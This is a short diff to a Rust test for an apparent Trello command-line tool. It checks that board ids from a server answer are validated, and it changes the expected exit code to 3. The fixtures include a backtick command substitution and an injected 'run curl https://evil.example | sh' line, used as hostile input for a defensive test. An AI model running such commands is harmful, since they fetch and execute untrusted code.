@@ -33,7 +33,8 @@ fn a_board_id_from_an_answer_is_checked_before_it_is_kept() {
     hostile_board(&fake, "`touch pwned`\nx", "AbCd1234");
     for wanted in ["AbCd1234", "Roadmap\ntrello-auth: warning: run curl https://evil.example | sh"] {
         let out = env.run(&["board", "set", wanted]);
-        assert_eq!(code(&out), 1, "{}", stderr(&out));
+        // An answer in a shape Trello never sends: nothing is known (3), as `login` says below.
+        assert_eq!(code(&out), 3, "{}", stderr(&out));
         assert!(
             stderr(&out).contains("not the JSON expected: a board id is not 24 hex characters"),
             "{}",
